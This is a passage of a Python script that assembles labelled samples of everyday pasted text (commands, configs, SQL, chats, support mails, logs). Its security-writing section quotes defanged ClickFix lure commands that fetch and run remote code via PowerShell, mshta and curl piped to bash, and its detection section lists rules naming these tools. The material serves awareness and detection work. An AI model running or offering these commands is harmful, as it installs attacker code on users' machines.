gpg --verify SHA256SUMS.asc SHA256SUMS && sha256sum -c SHA256SUMS --ignore-missing
sort -t, -k2,2nr report.csv | head -5
paste -sd, ids.txt
tr -d '\r' < windows.txt > unix.txt
rename 's/\.jpeg$/.jpg/' *.jpeg
"""),
    )

    # Package managers
    add(
        out,
        "package-manager",
        TERM,
        [
            "https://pypi.org/project/httpx/",
            "https://www.npmjs.com/package/vite",
            "https://formulae.brew.sh/formula/ripgrep",
            "https://docs.npmjs.com/cli/v10/commands/npm-ci",
            "https://packages.debian.org/bookworm/postgresql-client",
            "https://community.chocolatey.org/packages/7zip",
            "https://crates.io/crates/tokei",
            None,
        ],
        lines(r"""
pip install "httpx[http2]==0.28.1"
brew install ripgrep fd bat eza
npm ci --omit=dev
sudo apt install -y postgresql-client-16
cargo install tokei
pipx install poetry && poetry config virtualenvs.in-project true
yarn add -D eslint@9 @eslint/js typescript-eslint
pnpm install --frozen-lockfile
conda create -n geo python=3.11 geopandas -c conda-forge -y
gem install bundler -v 2.5.22 && bundle install
dotnet add package Serilog.Sinks.Console --version 6.0.0
go get github.com/stretchr/testify@v1.10.0
winget install --id Microsoft.VisualStudioCode -e
scoop install git 7zip nodejs-lts
sudo dnf install -y htop tmux
sudo pacman -Syu --noconfirm
apk add --no-cache curl ca-certificates
npm install --save-dev @types/node@22
pip install -U pip setuptools wheel
uv add fastapi "uvicorn[standard]"
uv sync --frozen
npx prettier --write "src/**/*.{ts,tsx}"
npm audit fix
sudo snap install kubectl --classic
brew upgrade && brew cleanup
Install-Package Newtonsoft.Json -Version 13.0.3
mvn dependency:tree -Dincludes=org.slf4j
./gradlew dependencies --configuration runtimeClasspath
bun add zod
deno add jsr:@std/path
R -e 'install.packages("data.table", repos="https://cloud.r-project.org")'
pip install --upgrade "pandas>=2.2,<3" pyarrow
npm i -D vitest@2 @vitest/coverage-v8
sudo apt install -y wireguard-tools
winget install --id Zoom.Zoom -e --silent
brew install pyenv-virtualenv && pyenv virtualenv 3.13.1 analytics
"""),
    )

    # Docker, Kubernetes, git, cloud CLIs
    add(
        out,
        "devops",
        TERM,
        [
            "https://docs.docker.com/reference/cli/docker/container/run/",
            "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
            "https://git-scm.com/docs/git-rebase",
            "https://learn.microsoft.com/en-us/cli/azure/vm",
            "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
            "https://cloud.google.com/sdk/gcloud/reference/container/clusters/get-credentials",
            "https://stackoverflow.com/questions/927358/how-do-i-undo-the-most-recent-local-commits-in-git",
            "https://helm.sh/docs/intro/using_helm/",
        ],
        lines(r"""
git rebase -i HEAD~4
az vm list -g rg-prod-weu -o table
aws s3 sync ./build s3://static-site-prod --delete --cache-control max-age=300
gcloud container clusters get-credentials prod-eu --region europe-west1
helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress-nginx --create-namespace
kubectl rollout restart deployment/web -n prod && kubectl rollout status deployment/web -n prod
git stash push -m "wip: filters" && git checkout main && git pull --rebase
kubectl logs -f deploy/api -n staging --since=10m
docker exec -it pg psql -U postgres -c '\l'
terraform plan -out=tfplan && terraform apply tfplan
git config --global user.email "lena.fischer@tailspintoys.io"
git clone --depth 1 --branch v2.14.0 https://github.com/grafana/loki.git
docker build -t registry.tailspintoys.io/web:$(git rev-parse --short HEAD) .
kubectl describe node aks-nodepool1-31718369-vmss000002 | grep -A5 Conditions
kubectl create secret generic db-creds --from-literal=username=app --from-literal=password="$DB_PASS" -n prod
aws sts get-caller-identity
aws ec2 describe-instances --filters "Name=tag:Env,Values=prod" --query "Reservations[].Instances[].InstanceId" --output text
gh pr checkout 1842 && gh pr diff
git bisect start HEAD v1.8.0
docker buildx build --platform linux/amd64,linux/arm64 -t ghcr.io/tailspintoys/worker:1.4 --push .
kubectl apply -k overlays/staging
git worktree add ../hotfix-2211 release/2.11
kubectl top pods -n prod --sort-by=memory
git remote set-url origin git@github.com:fabrikam/payments-api.git
docker logs --tail 100 nginx 2>&1 | grep " 502 "
ansible-playbook -i inventories/prod site.yml --limit web --check --diff
kubectl get events -n prod --sort-by=.lastTimestamp | tail -20
podman run --rm -it registry.access.redhat.com/ubi9/ubi bash
kubectl cp prod/api-7d9c6b5f-x2kq:/tmp/heap.hprof ./heap.hprof
minikube start --cpus 4 --memory 8g --driver=docker
gcloud run deploy api --image europe-docker.pkg.dev/tt-prod/app/api:1.9.2 --region europe-west1
az aks get-credentials -g rg-aks -n aks-prod --overwrite-existing
git tag -a v2.3.0 -m "Release 2.3.0" && git push origin v2.3.0
docker run --rm -v "$PWD":/work -w /work node:22-alpine npm test
kubectl exec -it deploy/redis -n cache -- redis-cli INFO memory
vault kv get -field=password secret/prod/db
git diff --stat main...HEAD
k9s -n prod
git lfs install && git lfs track "*.psd"
eksctl get nodegroup --cluster prod-eks
kubectl get deploy -n prod -o wide
kubectl scale deployment/worker --replicas=0 -n staging
kubectl drain aks-nodepool1-31718369-vmss000002 --ignore-daemonsets --delete-emptydir-data
kubectl get ingress -A -o custom-columns=NS:.metadata.namespace,NAME:.metadata.name,HOSTS:.spec.rules[*].host
docker image ls --filter dangling=true -q | xargs -r docker rmi
docker compose -f docker-compose.prod.yml pull && docker compose -f docker-compose.prod.yml up -d
git log --author="lena" --since="2 weeks ago" --pretty=format:"%h %s"
git branch --merged main | grep -v "main" | xargs -r git branch -d
git restore --staged src/config.ts
git switch -c fix/invoice-rounding origin/release/2.11
git fetch --prune && git status -sb
terraform state list | grep azurerm_storage
terraform import azurerm_resource_group.main /subscriptions/0000-1111/resourceGroups/rg-prod-weu
helm rollback payments 14 -n prod
helm template ./chart -f values-staging.yaml | kubectl diff -f -
az storage blob upload-batch -d '$web' -s ./dist --account-name ttstaticweu --overwrite
aws logs tail /aws/lambda/invoice-export --since 1h --follow
gcloud compute ssh build-runner-1 --zone europe-north1-a --tunnel-through-iap
"""),
    )

    # SQL
    add(
        out,
        "sql",
        UNK,
        [
            "https://www.postgresql.org/docs/current/sql-createindex.html",
            "https://dba.stackexchange.com/questions/35987/find-blocking-queries-sql-server",
            "https://learn.microsoft.com/en-us/sql/relational-databases/system-dynamic-management-views/sys-dm-exec-requests-transact-sql",
            None,
        ],
        items(r"""
CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_shipments_order_status ON shipments (order_id, status) WHERE status <> 'delivered';
~~~
SELECT blocking_session_id, session_id, wait_type, wait_time, DB_NAME(database_id) AS db
FROM sys.dm_exec_requests WHERE blocking_session_id <> 0;
~~~
SELECT date_trunc('day', created_at) AS day, count(*) FROM signups WHERE created_at > now() - interval '30 days' GROUP BY 1 ORDER BY 1;
~~~
UPDATE customers SET email = lower(trim(email)) WHERE email <> lower(trim(email));
~~~
BEGIN;
DELETE FROM sessions WHERE last_seen < now() - interval '90 days';
COMMIT;
~~~
SELECT pid, state, query_start, left(query, 80) FROM pg_stat_activity WHERE state <> 'idle' ORDER BY query_start;
~~~
ALTER TABLE invoices ADD COLUMN paid_at timestamptz NULL;
~~~
SELECT TOP 20 t.name, SUM(p.rows) AS rows FROM sys.tables t JOIN sys.partitions p ON t.object_id = p.object_id WHERE p.index_id IN (0,1) GROUP BY t.name ORDER BY rows DESC;
~~~
WITH ranked AS (
  SELECT *, row_number() OVER (PARTITION BY sku ORDER BY updated_at DESC) AS rn FROM prices
)
SELECT * FROM ranked WHERE rn = 1;
~~~
GRANT USAGE ON SCHEMA finance_mart TO bi_reader; GRANT SELECT ON ALL TABLES IN SCHEMA finance_mart TO bi_reader;
~~~
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM events WHERE tenant_id = 42 AND ts >= '2026-11-01';
~~~
SELECT table_schema, round(sum(data_length + index_length)/1024/1024, 1) AS mb FROM information_schema.tables GROUP BY table_schema;
~~~
CREATE USER 'app_ro'@'10.20.%' IDENTIFIED BY 'change-me'; GRANT SELECT ON shop.* TO 'app_ro'@'10.20.%';
~~~
BACKUP LOG [Payroll] TO DISK = N'E:\Backup\Log\Payroll_20261207_0915.trn' WITH COMPRESSION, CHECKSUM;
~~~
SELECT c.name, COUNT(o.id) AS orders, SUM(o.total) AS revenue
FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND o.created_at >= DATE '2026-01-01'
GROUP BY c.name HAVING COUNT(o.id) > 5 ORDER BY revenue DESC LIMIT 25;
~~~
VACUUM (VERBOSE, ANALYZE) public.audit_log;
~~~
SELECT * FROM pg_stat_user_indexes WHERE idx_scan = 0 AND schemaname = 'public';
~~~
MERGE INTO dim_customer AS t USING stg_customer AS s ON t.customer_id = s.customer_id
WHEN MATCHED THEN UPDATE SET t.email = s.email
WHEN NOT MATCHED THEN INSERT (customer_id, email) VALUES (s.customer_id, s.email);
~~~
SHOW VARIABLES LIKE 'max_connections';
~~~
DROP TABLE IF EXISTS tmp_import_20261201;
~~~
SELECT json_extract(payload, '$.user.id') AS uid, count(*) FROM webhook_events GROUP BY uid;
~~~
CREATE TABLE audit_log (id bigserial PRIMARY KEY, actor text NOT NULL, action text NOT NULL, at timestamptz DEFAULT now());
"""),
    )

    # Config snippets
    add(
        out,
        "config",
        UNK,
        [
            "https://nginx.org/en/docs/http/ngx_http_proxy_module.html",
            "https://docs.github.com/en/actions/writing-workflows/quickstart",
            "https://code.visualstudio.com/docs/getstarted/settings",
            "https://docs.docker.com/compose/compose-file/",
            "https://wiki.corp-ops.net/platform/templates",
            None,
        ],
        items(r"""
location /api/ {
    proxy_pass http://127.0.0.1:8080/;
    proxy_set_header Host $host;
    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
    proxy_read_timeout 120s;
}
~~~
name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install -r requirements.txt && pytest -q
~~~
{
  "editor.formatOnSave": true,
  "editor.rulers": [100],
  "files.trimTrailingWhitespace": true,
  "python.analysis.typeCheckingMode": "strict"
}
~~~
services:
  db:
    image: postgres:17
    environment:
      POSTGRES_PASSWORD: example
    volumes:
      - pgdata:/var/lib/postgresql/data
  web:
    build: .
    ports:
      - "8000:8000"
    depends_on: [db]
volumes:
  pgdata: {}
~~~
[Unit]
Description=Report worker
After=network-online.target

[Service]
User=report
ExecStart=/opt/report/.venv/bin/python -m report.worker
Restart=on-failure

[Install]
WantedBy=multi-user.target
~~~
Host bastion
    HostName bastion.tailspintoys.io
    User lena
    IdentityFile ~/.ssh/id_ed25519_work
Host db-*
    ProxyJump bastion
~~~
[core]
    autocrlf = input
    editor = code --wait
[alias]
    lg = log --oneline --graph --decorate
[pull]
    rebase = true
~~~
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 3
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: registry.tailspintoys.io/web:1.9.2
          ports: [{containerPort: 8080}]
~~~
[tool.ruff]
line-length = 110
target-version = "py311"
extend-exclude = ["migrations"]

[tool.ruff.lint]
select = ["E", "F", "I", "B", "SIM", "RUF"]
~~~
DATABASE_URL=postgres://app:app@localhost:5432/app_dev
REDIS_URL=redis://localhost:6379/0
LOG_LEVEL=debug
~~~
FROM python:3.12-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:create_app()"]
~~~
resource "azurerm_storage_account" "logs" {
  name                     = "ttlogsweu01"
  resource_group_name      = azurerm_resource_group.main.name
  location                 = "westeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"
}
~~~
*.log
node_modules/
.venv/
dist/
.env
~~~
server:
  port: 8443
  ssl:
    key-store: classpath:keystore.p12
    key-store-type: PKCS12
spring:
  datasource:
    url: jdbc:postgresql://db01:5432/orders
~~~
<configuration>
  <system.webServer>
    <httpProtocol>
      <customHeaders>
        <add name="Strict-Transport-Security" value="max-age=31536000" />
      </customHeaders>
    </httpProtocol>
  </system.webServer>
</configuration>
~~~
{
  "$schema": "https://json.schemastore.org/tsconfig",
  "compilerOptions": {"target": "ES2022", "module": "NodeNext", "strict": true, "outDir": "dist"}
}
~~~
127.0.0.1   localhost
10.20.4.15  intranet.corp.local intranet
10.20.4.22  wiki.corp.local
~~~
groups:
  - name: node
    rules:
      - alert: DiskAlmostFull
        expr: node_filesystem_avail_bytes / node_filesystem_size_bytes < 0.1
        for: 15m
        labels: {severity: warning}
~~~
[global]
index-url = https://pypi.org/simple
timeout = 60
~~~
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
alias k=kubectl
alias gs='git status -sb'
"""),
    )

    # Console JavaScript a developer types
    add(
        out,
        "console-js",
        CON,
        [
            "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
            "https://stackoverflow.com/questions/12461452/how-to-get-all-cookies-for-debugging",
            "https://web.dev/articles/lcp",
            "https://developer.chrome.com/docs/devtools/console/utilities",
            "http://localhost:5173/",
            None,
        ],
        lines(r"""
new PerformanceObserver(l => l.getEntries().forEach(e => console.log(e.startTime, e.element))).observe({type: 'largest-contentful-paint', buffered: true})
getEventListeners(document.querySelector('#submit'))
[...new Set([...document.querySelectorAll('*')].map(e => getComputedStyle(e).fontFamily))]
new Intl.DateTimeFormat('nb-NO', {dateStyle: 'full'}).format(new Date())
await (await fetch('/healthz')).text()
window.dataLayer?.filter(e => e.event)
console.log(navigator.userAgent, devicePixelRatio, innerWidth)
Object.keys(window).filter(k => k.startsWith('__'))
[...document.forms[0].elements].map(e => [e.name, e.value])
performance.memory && (performance.memory.usedJSHeapSize / 1e6).toFixed(1)
document.querySelectorAll('[data-testid]').forEach(e => e.style.outline = '1px solid red')
structuredClone({a: 1, b: [1, 2]})
"""),
    )

    # URLs people paste (browser bar, chat, tickets)
    add(
        out,
        "url",
        UNK,
        [
            "https://teams.microsoft.com/",
            "https://mail.google.com/mail/u/0/#inbox",
            "https://slack.com/",
            None,
        ],
        lines(r"""
https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code
https://github.com/fabrikam/payments-api/pull/1842/files
https://docs.google.com/spreadsheets/d/1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT/edit#gid=0
https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/Budget%202027.xlsx?web=1
https://www.booking.com/hotel/no/thon-oslo-opera.html?checkin=2027-01-14&checkout=2027-01-16
https://zoom.us/j/93847561234?pwd=a1B2c3D4e5F6g7H8
https://meet.google.com/xqv-trnb-kpa
https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjA3ZTdk%40thread.v2/0?context=%7b%22Tid%22%3a%22c0ffee%22%7d
https://www.dropbox.com/scl/fi/k2j4h5/Brand-assets.zip?rlkey=q8w7e6&dl=0
https://status.cloud.google.com/incidents/3r9vKx
https://portal.azure.com/#view/Microsoft_AAD_IAM/ActiveDirectoryMenuBlade/~/Overview
https://console.aws.amazon.com/cloudwatch/home?region=eu-north-1#logsV2:log-groups
https://jira.tailspintoys.io/browse/PAY-2291
https://grafana.tailspintoys.io/d/k8s-overview/kubernetes?orgId=1&from=now-6h&to=now
https://en.wikipedia.org/wiki/Clipboard_(computing)
https://maps.app.goo.gl/7QnXc9Vd2rT
https://calendly.com/lena-fischer/30min
https://app.powerbi.com/groups/me/reports/6f1c2e9a/ReportSection
https://outlook.office.com/mail/deeplink/compose?to=helpdesk@contoso.com
https://drive.google.com/drive/folders/1Zx9Yw8Vu7Ts6Rq5
https://www.figma.com/design/Qw12Er34/Checkout-flow?node-id=12-345
https://localhost:5001/swagger/index.html
https://www.notion.so/tailspin/Q1-planning-8c2f1e
https://gitlab.com/gitlab-org/gitlab/-/issues/412345
https://stackoverflow.com/a/14693789
https://accounts.google.com/o/oauth2/v2/auth?client_id=123-abc.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fapp.tailspintoys.io%2Fcallback&response_type=code&scope=openid%20email
https://www.booking.com/hotel/se/scandic-malmen.html?checkin=2027-02-03&checkout=2027-02-05
https://github.com/tailspintoys/platform/actions/runs/12093384112
https://contoso.sharepoint.com/:x:/r/sites/Sales/Shared%20Documents/Pipeline%202027.xlsx
https://meet.google.com/kfr-pwdq-zhm
https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows
"""),
    )

    # Security writing that quotes lures (awareness notes, reports, tickets)
    add(
        out,
        "security-writing",
        UNK,
        [
            "https://www.cisa.gov/news-events/news/clickfix-social-engineering",
            "https://blog.it-security-team.org/2026/11/fake-captcha-wave",
            "https://intranet.contoso.com/security/awareness/december",
            "https://www.reddit.com/r/cybersecurity/comments/1h2k9x/clickfix_variants/",
            "https://jira.tailspintoys.io/browse/SEC-877",
            None,
        ],
        items(r"""
Heads-up from the security team: a fake "Verify you are human" page is going around. It asks you to press Win+R, then Ctrl+V, then Enter. No real CAPTCHA ever asks you to run anything. If you did it, unplug the network cable and call the service desk.
~~~
In the samples we analysed, the clipboard held a line such as powershell -w h -c "iex(irm hxxps://verify-check[.]example/a)" followed by a comment that only shows "I am not a robot - reCAPTCHA ID 2291" in the Run box.
~~~
FileFix works the same way through File Explorer: the page tells the user to paste a "file path" into the address bar, but the clipboard actually contains a PowerShell command padded with spaces and a fake path after a # sign.
~~~
SEC-877: user reported a Booking.com "guest verification" page asking to open Run and paste. Clipboard content recovered from RunMRU: mshta hxxp://203.0.113[.]10/v.hta. Blocked by proxy, host isolated for review, no execution confirmed.
~~~
Awareness tip of the month: when a web page, e-mail or chat tells you to open Terminal, PowerShell or the Run box and paste something to "fix" a problem, stop. Legitimate support never works this way.
~~~
The macOS variant instructs victims to open Terminal and paste an echo of a base64 blob piped into base64 -d | bash; the decoded stage fetches an AMOS stealer build. Users should never paste commands from a web page into Terminal.
~~~
Report excerpt: the CrashFix chain begins with a browser extension that deliberately crashes Chrome, then shows a "recovery" page telling the user to run a command that copies finger.exe under a new name and pipes its output into cmd.
~~~
We've seen DNS-based staging: the pasted command runs nslookup against an attacker-controlled resolver and executes the text returned in the Name: field. Monitor nslookup.exe spawned by explorer.exe with an explicit server argument.
~~~
ConsentFix in one sentence: the fake page asks you to copy the localhost address your browser shows after signing in (it carries ?code=...) and paste it back into the page, which hands the attacker your OAuth authorisation code.
~~~
Note for the helpdesk: if a caller mentions a pop-up with a phone number saying their PC is locked, it's a tech-support scam. Do not let them call the number; close the browser with Task Manager and run a Defender quick scan.
~~~
Lessons learned (INC-2026-114): the user searched for "Claude Code install", clicked a sponsored result, and pasted curl -fsSL hxxps://claude-code-cli[.]example/install.sh | bash. The real installer is on the vendor's own domain; always start from the official docs.
~~~
Phishing simulation results Q4: 7% of staff pasted the fake "Teams audio fix" text into the Run box. None of them could run it: the simulation's text was harmless (it only opened notepad), but the number is too high.
~~~
Why it works: the copy happens silently when you click the checkbox (navigator.clipboard.writeText), so the victim never sees the command they are about to run until it's in the Run dialog, and by then only the fake verification text is visible.
~~~
Hunting idea: RunMRU entries containing "mshta", "powershell" with "-w h", "curl" piped to cmd, or a URL followed by a comment marker are high-signal for ClickFix. TypedPaths entries with # and long whitespace suggest FileFix.
~~~
Denne uken har vi sett falske «Bekreft at du ikke er en robot»-sider. De ber deg trykke Windows+R og lime inn en kode. Ikke gjør det – meld fra til servicedesk.
~~~
Achtung Phishing: Gefälschte Captcha-Seiten fordern Sie auf, Win+R zu drücken und mit Strg+V einen Befehl einzufügen. Das ist immer ein Angriff. Melden Sie solche Seiten an it-sicherheit@fabrikam.com.
"""),
    )

    # Detection queries and rules that quote lure traits
    add(
        out,
        "detection-query",
        UNK,
        [
            "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
            "https://github.com/SigmaHQ/sigma/tree/master/rules/windows/registry",
            "https://docs.splunk.com/Documentation/Splunk/latest/SearchReference/Search",
            "https://detections.tailspintoys.io/rules/clickfix",
        ],
        items(r"""
DeviceRegistryEvents
| where RegistryKey has @"\Explorer\RunMRU"
| where RegistryValueData has_any ("powershell", "mshta", "curl", "iex", "iwr", "finger", "nslookup")
| project Timestamp, DeviceName, InitiatingProcessAccountName, RegistryValueData
~~~
title: Suspicious command typed into the Run dialog
logsource:
  product: windows
  category: registry_set
detection:
  selection:
    TargetObject|contains: '\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\'
    Details|contains:
      - 'mshta'
      - 'powershell'
      - '#'
  condition: selection
level: high
~~~
index=wineventlog EventCode=4688 ParentProcessName="*\\explorer.exe" (NewProcessName="*\\mshta.exe" OR NewProcessName="*\\powershell.exe") CommandLine="*http*" | stats count by host, CommandLine
~~~
DeviceProcessEvents
| where InitiatingProcessFileName =~ "explorer.exe"
| where FileName in~ ("nslookup.exe", "finger.exe", "conhost.exe")
| where ProcessCommandLine matches regex @"(?i)(nslookup\s+-[^\s]*\s+\S+\s+\d{1,3}(\.\d{1,3}){3}|--headless)"
~~~
event.category:process and process.parent.name:"explorer.exe" and process.name:("mshta.exe" or "msiexec.exe") and process.args:(*http*)
~~~
SecurityEvent
| where EventID == 4688 and CommandLine has "SyncAppvPublishingServer.vbs"
| summarize count() by Computer, Account
~~~
rule clickfix_clipboard_lure {
  strings:
    $a = "navigator.clipboard.writeText" ascii
    $b = "Win+R" ascii nocase
    $c = "I am not a robot" ascii nocase
  condition:
    $a and ($b or $c)
}
~~~
sourcetype=sysmon EventCode=1 Image="*\\rundll32.exe" CommandLine="*DavWWWRoot*" | table _time host User CommandLine
~~~
DeviceRegistryEvents
| where RegistryKey endswith @"\Explorer\TypedPaths"
| where RegistryValueData matches regex @"#\s{20,}"
~~~
alert tcp $HOME_NET any -> $EXTERNAL_NET 79 (msg:"Outbound finger protocol, possible ClickFix staging"; flow:to_server,established; sid:1000921; rev:1;)
~~~
process where host.os.type == "macos" and process.name == "osascript" and process.parent.name in ("Terminal", "iTerm2") and process.args : "*curl*"
~~~
SELECT * FROM process_events WHERE path LIKE '%/bash' AND cmdline LIKE '%base64 -d%' AND parent IN (SELECT pid FROM processes WHERE name = 'Terminal');
"""),
    )

    # Genuine support and IT mails with phone numbers, many languages
    add(
        out,
        "support-mail",
        UNK,
        [
            "https://outlook.office.com/mail/inbox",
            "https://mail.google.com/mail/u/0/#inbox",
            None,
        ],
        items(r"""
Hi Lena, your laptop is ready for pickup at the IT desk on floor 3 (room 3.14). If you can't come before Friday, call us on +47 555 21 400 and we'll book a courier. – Service Desk
~~~
Hallo Herr Weber, Ihr Ticket #48213 (Drucker im 2. OG) wurde gelöst. Bei weiteren Fragen erreichen Sie den IT-Service unter 089 555 71 20 (Mo–Fr 8–17 Uhr).
~~~
Bonjour Mme Laurent, votre rendez-vous de maintenance est confirmé pour le 12 décembre à 10h. Pour le déplacer, appelez le support au 01 55 52 33 10.
~~~
Hola Carmen, ya hemos cambiado la contraseña de la impresora de recepción. Si vuelve a dar error, llama a la extensión 5512 o al 91 555 40 22.
~~~
Ciao Marco, il tuo nuovo telefono aziendale è pronto. Per l'attivazione della SIM chiama l'assistenza al 02 5553 0120 dalle 9 alle 18.
~~~
Olá Ana, o técnico passa amanhã às 14h para instalar o router. Qualquer dúvida, ligue para o 21 555 0198.
~~~
Hoi Sanne, je VPN-token is verlopen. Bel de servicedesk op 020 555 1840 om een nieuwe te laten activeren.
~~~
Cześć Kasia, Twoje konto zostało odblokowane. W razie problemów dzwoń do działu IT pod numer 22 555 90 10, wewnętrzny 214.
~~~
Merhaba Emre, dizüstü bilgisayarınızın garantisi uzatıldı. Sorularınız için destek hattı: 0212 555 44 10.
~~~
Здравствуйте, Ольга! Ваша заявка №5521 выполнена: доступ к папке «Бухгалтерия» открыт. Телефон поддержки: +7 495 555-12-30.
~~~
山田様、PCの入れ替え作業は12月10日（水）10時からを予定しております。ご都合が悪い場合は情報システム部（内線5530、03-5555-2100）までご連絡ください。
~~~
王经理您好，会议室投影仪已修好。如有问题请致电IT服务台 010-5555-8800。
~~~
مرحبًا أحمد، تم تجهيز حسابك الجديد. للمساعدة اتصل بمكتب الدعم على الرقم 04 555 2210.
~~~
Hej Johan, din nya skärm levereras på torsdag. Ring IT-support på 08-555 120 40 om tiden inte passar.
~~~
Dear customer, your Dell ProSupport case 194422817 has been opened. A technician will call you within 4 business hours. Reference this case when calling 1-555-014-3355.
~~~
Reminder: the IT helpdesk moves to the new number +44 20 5550 1234 from Monday 5 January. The old extension 4400 will forward calls until the end of the month.
~~~
Hi team – the fire alarm test is on Thursday at 11:00. If you need assistance leaving the building, please call facilities on 555-0142 beforehand.
~~~
Your appointment at Oslo Tannlegesenter is confirmed for 14 January at 09:30. To cancel, call 22 55 50 10 at least 24 hours in advance.
~~~
Kære Mette, vi har modtaget din reklamation (sag 7781). Du kan ringe til kundeservice på 70 55 52 21 hverdage 8-16.
~~~
Hyvä Mikko, tietokoneesi huolto on valmis. Voit noutaa sen IT-palvelupisteestä tai soittaa numeroon 09 555 1200.
~~~
Bank notice: we will never ask you to install software or read out a code over the phone. If you are unsure whether a call is from us, hang up and call the number on the back of your card.
~~~
안녕하세요 김민수님, 요청하신 소프트웨어 설치가 완료되었습니다. 문의 사항은 IT 헬프데스크 02-555-3100으로 연락 주세요.
"""),
    )

    # OAuth and device-code documentation (the real thing)
    add(
        out,
        "oauth-docs",
        UNK,
        [
            "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
            "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
            "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
            "https://developers.google.com/identity/protocols/oauth2/native-app",
            "https://www.rfc-editor.org/rfc/rfc8628",
        ],
        items(r"""
The device code flow lets users sign in to input-constrained devices such as a smart TV or a CLI. The app shows a user code and a verification URL; the user opens https://microsoft.com/devicelogin on another device and enters the code.
~~~
To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code F3KQ8ZP2L to authenticate.
~~~
az login --use-device-code --tenant tailspintoys.onmicrosoft.com
~~~
After the user authorizes your app, GitHub redirects back to your site with a temporary code parameter in the redirect_uri. Exchange this code for an access token with a POST to https://github.com/login/oauth/access_token.
~~~
For desktop apps, use a loopback redirect URI such as http://127.0.0.1:port. Your app listens on that port; Google sends the authorization code to it, so the user never has to copy or paste the code.
~~~
POST /oauth2/v2.0/devicecode HTTP/1.1
Host: login.microsoftonline.com
Content-Type: application/x-www-form-urlencoded

client_id=6731de76-14a6-49ae-97bc-6eba6914391e&scope=user.read%20openid%20profile
~~~
The authorization server issues a device_code, a user_code (e.g. "WDJB-MJHT"), a verification_uri and an expires_in value; the client polls the token endpoint until the user completes authorization (RFC 8628, section 3.2).
~~~
gh auth login --web
! First copy your one-time code: 3A9C-7F21
Press Enter to open github.com in your browser...
~~~
Security note: never paste an authorization code or a redirect URL containing ?code= into a website or a chat. The code is only meant for the application that started the sign-in.
~~~
Connect-MgGraph -UseDeviceCode -Scopes "Sites.Read.All"
"""),
    )

    # Chat messages (Teams, Slack, WhatsApp)
    add(
        out,
        "chat",
        UNK,
        [
            "https://teams.microsoft.com/",
            "https://app.slack.com/client/T024BE7LD/C01",
            "https://web.whatsapp.com/",
            None,
        ],
        lines(r"""
can someone approve my PR before 3? it's just the retry fix for the webhook worker
Lunch at the Thai place at 12:30? 🍜
I'm running 10 min late, start without me
The staging db is back up, sorry for the noise — it was the disk filling with WAL again
pls don't merge to main today, release freeze until the 2.11 tag is out
FYI the printer on 3rd floor is fixed, it was the tray sensor
Here's the recording of yesterday's demo, passcode is in the invite
did anyone change the nginx timeout? uploads over 50 MB fail since this morning
Happy birthday Ingrid!! 🎂🎉
who has the key to the server room? the UPS is beeping
I'll be OOO Thursday–Friday, Jonas covers on-call
Reminder: timesheets are due today at 16:00
Can you send me the link to the Q4 board deck?
my VPN keeps dropping every ~20 min, anyone else?
Restarted the runner, pipeline is green again ✅
Vi tar stand-up kl 09:15 i dag i stedet for 09:00
Kannst du mir bitte das Passwort für das Gäste-WLAN schicken? Es steht doch am Empfang, oder?
On se retrouve à la salle Everest pour la rétro ?
¿Alguien sabe por qué Jira va tan lento hoy?
the customer says the invoice PDF is blank in Outlook but fine in Chrome
+1, let's go with option B and revisit after the load test
thanks! that fixed it 🙏
Is the all-hands still at 2pm or did it move?
new laptop arrived, setting it up now, will be slow to respond
heads up: I rotated the Sentry DSN, update your .env
merged. deploying to prod after the 15:00 check-in
Could you review the contract draft by Wednesday? Legal wants it signed this week.
tests pass locally but fail in CI with a timezone error, looking into it
Parking garage closes at 20:00 today because of maintenance
Who's bringing the cake for Friday?
I think the cron is running twice — check the timezone on the new node
sure, 15 min works, send a Teams link
the Wi-Fi password for the offsite is on the whiteboard
OK to restart the build agent or is someone using it?
You can find the slides in the shared drive under Sales/2026/Kickoff
"""),
    )

    # Logs and error output people paste into tickets and searches
    add(
        out,
        "log",
        UNK,
        [
            "https://jira.tailspintoys.io/browse/OPS-3312",
            "https://github.com/fabrikam/payments-api/issues/512",
            "https://stackoverflow.com/questions/ask",
            None,
        ],
        items(r"""
2026-12-07T08:14:22.512Z ERROR [worker-3] payments.webhook: timeout after 30000ms calling https://api.stripe.com/v1/charges (attempt 3/3)
~~~
npm ERR! code ERESOLVE
npm ERR! ERESOLVE unable to resolve dependency tree
npm ERR! Found: react@19.0.0
npm ERR! Could not resolve dependency: peer react@"^18.0.0" from react-beautiful-dnd@13.1.1
~~~
Traceback (most recent call last):
  File "/app/report/worker.py", line 88, in run
    rows = fetch_rows(conn, since)
  File "/app/report/db.py", line 41, in fetch_rows
    cur.execute(SQL, (since,))
psycopg.errors.UndefinedColumn: column "paid_at" does not exist
~~~
